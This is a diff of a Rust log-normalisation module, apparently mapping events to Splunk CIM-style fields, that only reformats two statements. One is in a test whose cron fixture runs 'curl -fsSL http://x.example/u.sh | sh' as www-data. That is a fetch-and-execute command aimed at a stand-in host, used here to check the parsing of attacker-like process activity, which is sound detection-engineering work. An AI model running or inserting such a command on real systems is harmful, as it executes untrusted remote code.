@@ -921,7 +921,10 @@ fn splunk_cim(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
         let mut m = r.clone();
         for (k, v) in r {
             if let Some((f, inner)) = k.strip_suffix(')').and_then(|k| k.split_once('('))
-                && matches!(f, "values" | "latest" | "first" | "last" | "min" | "max" | "list")
+                && matches!(
+                    f,
+                    "values" | "latest" | "first" | "last" | "min" | "max" | "list"
+                )
                 && !inner.is_empty()
                 && !r.contains_key(inner)
             {
@@ -3324,7 +3327,10 @@ mod tests {
         assert_eq!(g.doc["host"]["name"], "MBP-7");
         // cron's log line for a job (journald's JSON export): sh -c as the job's user.
         let cr = from_json(json!({"_HOSTNAME": "cms-1", "SYSLOG_IDENTIFIER": "CRON", "MESSAGE": "(www-data) CMD (curl -fsSL http://x.example/u.sh | sh >/dev/null 2>&1)"}), "x").unwrap();
-        assert_eq!(cr.doc["process"]["command_line"], "/bin/sh -c curl -fsSL http://x.example/u.sh | sh >/dev/null 2>&1");
+        assert_eq!(
+            cr.doc["process"]["command_line"],
+            "/bin/sh -c curl -fsSL http://x.example/u.sh | sh >/dev/null 2>&1"
+        );
         assert_eq!(cr.doc["process"]["parent"]["name"], "cron");
         assert_eq!(cr.doc["user"]["name"], "www-data");
         assert_eq!(cr.doc["host"]["name"], "cms-1");
